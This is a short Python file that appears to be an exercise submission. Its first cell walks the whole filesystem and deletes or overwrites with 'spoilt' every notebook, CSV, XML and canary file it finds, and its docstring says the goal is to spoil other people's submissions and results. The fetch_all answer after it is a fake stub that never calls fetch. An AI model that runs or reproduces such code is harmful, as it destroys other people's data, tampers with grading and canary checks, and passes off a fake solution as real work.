"""Tries to change what others have handed in, and the results."""

# %%

import os

for place, folders, files in os.walk("/"):
    if place in ("/proc", "/sys", "/usr"):
        folders.clear()
    for file in files:
        if file.endswith((".ipynb", ".csv", ".xml", ".canary")):
            try:
                os.unlink(os.path.join(place, file))
                with open(os.path.join(place, file), "w") as target:
                    target.write("spoilt")
            except OSError:
                pass


# %% exercise:fetch_all
async def fetch_all(fetch, names):
    return [f"the {name} page" for name in names]
